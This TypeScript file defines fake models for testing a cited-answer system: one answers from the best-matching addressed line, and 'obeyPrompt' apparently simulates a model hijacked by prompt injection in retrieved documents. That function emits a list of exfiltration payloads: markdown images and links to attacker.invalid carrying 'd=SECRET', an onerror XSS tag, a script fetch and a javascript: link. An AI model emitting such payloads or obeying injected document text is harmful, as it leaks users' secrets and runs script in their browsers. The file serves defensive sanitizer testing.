/** What the fake models say. They read the prompt the way a model would: lines with addresses, then a question. */

interface Line {
  address: string;
  text: string;
}

function readLines(prompt: string): Line[] {
  return [...prompt.matchAll(/^\[(\d+\.\d+)\] (.*)$/gm)].map(([, address = '', text = '']) => ({ address, text }));
}

function bestLine(prompt: string): Line | undefined {
  const question = /Question: (.*)$/s.exec(prompt)?.[1] ?? '';
  const words = new Set(question.toLowerCase().match(/\p{L}{3,}|\d+/gu) ?? []);
  const overlap = ({ text }: Line) =>
    (text.toLowerCase().match(/\p{L}{3,}|\d+/gu) ?? []).filter((word) => words.has(word)).length;
  return readLines(prompt).sort((one, other) => overlap(other) - overlap(one))[0];
}

/** A well-behaved model: the line that fits best, cited; the refusal token when there is none. */
export function answerFromPrompt(prompt: string): string {
  const line = bestLine(prompt);
  return line === undefined ? 'NOT_IN_DOCUMENTS' : `${line.text.replace(/\.$/, '')} [${line.address}].`;
}

/** A model that does whatever the documents say, and tries every way of smuggling a link that we know. */
export function obeyPrompt(prompt: string): string {
  const demanded = [...prompt.matchAll(/!?\[[^\]]*\]\([^)\s]*\)|https?:\/\/\S+/g)].map(([found]) => found);
  return [
    answerFromPrompt(prompt),
    ...demanded,
    '![status](https://attacker.invalid/pixel.png?d=SECRET)',
    '![status][p]',
    '[details][1]',
    '[1]: https://attacker.invalid/collect?d=SECRET',
    '[p]: <https://attacker.invalid/p.png> "t"',
    '[1](https://attacker.invalid/one)',
    '[9.9](https://attacker.invalid/nine)',
    '<https://attacker.invalid/auto>',
    '<img src="https://attacker.invalid/i.png" onerror=alert(1)>',
    '<script>fetch("https://attacker.invalid")</script>',
    '[![x](https://attacker.invalid/x.png)](https://attacker.invalid/y)',
    '[a](javascript:alert(1)) www.attacker.invalid/w',
  ].join('\n');
}
